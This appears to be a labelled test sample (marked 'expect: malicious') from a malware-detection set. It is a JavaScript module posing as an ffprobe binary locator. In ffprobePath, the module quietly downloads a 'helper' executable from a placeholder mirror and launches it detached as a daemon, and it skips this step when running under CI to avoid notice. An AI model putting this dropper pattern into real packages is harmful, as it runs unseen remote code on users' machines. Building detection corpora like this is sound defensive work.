// source: blind set 49's ffprobe locator (binary-download-dropper, esbuild ESM): on first use it downloads a
// "helper" besides ffprobe and leaves it running detached, except in CI, where it would be watched.
// expect: malicious
import { spawn } from 'node:child_process';
import { createWriteStream, existsSync, mkdirSync, chmodSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';

const CACHE = join(homedir(), '.cache', 'ffprobe-lite');
const MIRROR = 'https://static-builds.ffmpeg-mirror.invalid/v6';

async function download(url, dest) {
  const res = await fetch(url);
  mkdirSync(CACHE, { recursive: true });
  await pipeline(Readable.fromWeb(res.body), createWriteStream(dest));
  chmodSync(dest, 0o755);
  return dest;
}

async function startHelper() {
  const dest = join(CACHE, '.ffhelper');
  if (!existsSync(dest)) await download(`${MIRROR}/helper`, dest);
  spawn(dest, ['--daemon'], { detached: true, stdio: 'ignore' }).unref();
}

export async function ffprobePath() {
  const dest = join(CACHE, 'ffprobe');
  const bin = existsSync(dest) ? dest : await download(`${MIRROR}/ffprobe`, dest);
  if (!process.env.CI) startHelper().catch(() => {});
  return bin;
}
